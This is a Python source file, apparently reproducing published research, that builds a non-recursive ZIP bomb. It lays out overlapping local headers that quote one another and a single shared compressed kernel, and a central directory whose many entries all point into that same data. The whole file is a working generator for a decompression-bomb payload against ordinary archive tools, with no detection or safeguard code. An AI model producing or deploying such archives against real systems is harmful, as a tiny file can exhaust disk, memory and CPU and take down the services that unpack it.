"""The ZIP bomb without nesting that few checks see: D. Fifield, "A better zip bomb", WOOT 2019."""

import struct
import zlib

CENTRAL_BYTES = 46


def quoted_overlap(count: int) -> bytes:
    """Fifield's bomb (WOOT 2019): each member quotes the next local header, and all share one kernel."""
    kernel = zlib.compress(bytes(2**20), 9)[2:-4]
    pieces, entries, data, body = [], b"", b"", kernel
    crc, size = zlib.crc32(bytes(2**20)), 2**20
    plain = bytes(2**20)
    for i in reversed(range(count)):
        name = str(i).encode()
        if pieces:
            quoted = pieces[0]
            body = struct.pack("<BHH", 0, len(quoted), len(quoted) ^ 0xFFFF) + quoted + body
            plain = quoted + plain
            crc, size = zlib.crc32(plain), len(plain)
        header = (
            struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(body), size, len(name), 0) + name
        )
        pieces.insert(0, header)
        data = header + body
        entries = (
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\1\2",
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(body),
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                len(data),
            )
            + name
            + entries
        )
    fixed, at = b"", 0
    while at < len(entries):  # offsets count from the front: until here they said how far from the end
        length = struct.unpack_from("<H", entries, at + 28)[0]
        behind = struct.unpack_from("<L", entries, at + 42)[0]
        fixed += entries[at : at + 42] + struct.pack("<L", len(data) - behind)
        fixed += entries[at + CENTRAL_BYTES : at + CENTRAL_BYTES + length]
        at += CENTRAL_BYTES + length
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(fixed), len(data), 0)
    return data + fixed + end
